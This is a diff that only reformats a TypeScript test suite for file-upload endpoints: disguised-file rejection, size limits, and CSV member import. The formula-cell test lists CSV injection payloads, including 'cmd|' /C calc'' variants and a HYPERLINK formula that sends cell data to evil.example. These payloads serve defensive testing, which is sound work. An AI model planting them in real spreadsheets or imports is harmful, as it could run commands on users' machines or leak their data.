@@ -45,14 +45,22 @@ const LARGER_UPLOADS: Readonly<Record<string, string>> = {
  * upload must be listed.
  */
 const CSV_TEXT_COLUMNS: Readonly<Record<string, readonly string[]>> = {
-  'member-import.upload-csv': ['firstName', 'lastName', 'street', 'additionalAddress', 'city', 'externalCompany'] satisfies MemberImportColumn[],
+  'member-import.upload-csv': [
+    'firstName',
+    'lastName',
+    'street',
+    'additionalAddress',
+    'city',
+    'externalCompany',
+  ] satisfies MemberImportColumn[],
 };
 
 function sendForm(endpoint: UploadEndpoint, body: Buffer) {
   return admin.post(endpoint.path, body, { headers: { 'content-type': MULTIPART_CONTENT_TYPE } });
 }
 
-const sendFile = (endpoint: UploadEndpoint, filename: string, content: Buffer) => sendForm(endpoint, multipartBody([{ name: endpoint.upload.field, filename, content }]));
+const sendFile = (endpoint: UploadEndpoint, filename: string, content: Buffer) =>
+  sendForm(endpoint, multipartBody([{ name: endpoint.upload.field, filename, content }]));
 
 /** Sends a file of `size` bytes, streamed; with its Content-Length, or without (as chunked uploads come). */
 async function sendStreamed(endpoint: UploadEndpoint, filename: string, size: number, withLength: boolean) {
@@ -86,14 +94,20 @@ describe.each(byName(uploads))('%s', (_name, endpoint) => {
   it.each(Object.entries(DISGUISED_FILES))(`refuses a renamed %s as .${extension} and stores nothing`, async (_kind, content) => {
     const before = await databaseDigest(t.db);
     const response = await sendFile(endpoint, `payroll.${extension}`, content);
-    expect({ status: response.statusCode, body: response.json() as unknown }).toEqual({ status: 400, body: { error: { code: 'File.InvalidType' } } });
+    expect({ status: response.statusCode, body: response.json() as unknown }).toEqual({
+      status: 400,
+      body: { error: { code: 'File.InvalidType' } },
+    });
     expect(await databaseDigest(t.db)).toBe(before);
   });
 
   const expectTooLarge = async (size: number, withLength: boolean) => {
     const before = await databaseDigest(t.db);
     const sent = await sendStreamed(endpoint, `large.${extension}`, size, withLength);
-    expect({ status: sent.response.statusCode, body: sent.response.json() as unknown }).toEqual({ status: 413, body: { error: { code: 'File.TooLarge' } } });
+    expect({ status: sent.response.statusCode, body: sent.response.json() as unknown }).toEqual({
+      status: 413,
+      body: { error: { code: 'File.TooLarge' } },
+    });
     expect(await databaseDigest(t.db)).toBe(before);
     return sent;
   };
@@ -118,7 +132,10 @@ describe.each(byName(uploads))('%s', (_name, endpoint) => {
   if (maxBytes > MAX_UPLOAD_BYTES && endpoint.upload.types.includes('csv')) {
     it('takes a file over the 5 MB default but within its own limit', async () => {
       // One long cell keeps the row check short: the size is what is tried here.
-      const content = Buffer.concat([Buffer.from('firstName;lastName;username\r\nAnna;Berg;'), Buffer.alloc(MAX_UPLOAD_BYTES + 1024 * 1024, 'x')]);
+      const content = Buffer.concat([
+        Buffer.from('firstName;lastName;username\r\nAnna;Berg;'),
+        Buffer.alloc(MAX_UPLOAD_BYTES + 1024 * 1024, 'x'),
+      ]);
       const response = await sendFile(endpoint, `large.${extension}`, content);
       expect(response.statusCode).toBe(200);
     });
@@ -178,23 +195,27 @@ const quoteCell = (value: string) => (/[";,\r\n]/.test(value) ? `"${value.replac
 describe.each(byName(uploads.filter((endpoint) => CSV_TEXT_COLUMNS[endpoint.id])))('%s formula-like cells', (_name, endpoint) => {
   const columns = CSV_TEXT_COLUMNS[endpoint.id] ?? [];
 
-  it.each(["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Details")'])(
-    '%s in any free-text column is taken as text: its row stays valid',
-    async (formula) => {
-      const header = MEMBER_IMPORT_COLUMNS;
-      const row = (index: number, column?: string) =>
-        header
-          .map((name) => {
-            const value = name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name];
-            return quoteCell(name === column ? formula : value);
-          })
-          .join(';');
-      const csv = [header.join(';'), row(0), ...columns.map((column, index) => row(index + 1, column))].join('\r\n');
-      const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
-      expect(response.statusCode).toBe(200);
-      const report = response.json() as MemberImportReport;
-      expect(report.errors).toEqual([]);
-      expect(report.validRows).toBe(columns.length + 1);
-    },
-  );
+  it.each([
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
+  ])('%s in any free-text column is taken as text: its row stays valid', async (formula) => {
+    const header = MEMBER_IMPORT_COLUMNS;
+    const row = (index: number, column?: string) =>
+      header
+        .map((name) => {
+          const value =
+            name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name];
+          return quoteCell(name === column ? formula : value);
+        })
+        .join(';');
+    const csv = [header.join(';'), row(0), ...columns.map((column, index) => row(index + 1, column))].join('\r\n');
+    const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
+    expect(response.statusCode).toBe(200);
+    const report = response.json() as MemberImportReport;
+    expect(report.errors).toEqual([]);
+    expect(report.validRows).toBe(columns.length + 1);
+  });
 });
